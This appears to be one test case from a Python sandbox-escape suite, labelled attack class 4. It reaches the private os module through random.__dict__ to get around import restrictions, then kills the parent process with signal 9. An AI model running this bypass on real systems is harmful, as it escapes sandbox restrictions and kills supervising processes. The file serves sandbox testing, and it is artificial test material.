# attack-class: 4
# title: random.__dict__['_os']
# why: reads the private os reference through the module dict

import random

ros = random.__dict__["_os"]
ros.kill(ros.getppid(), 9)
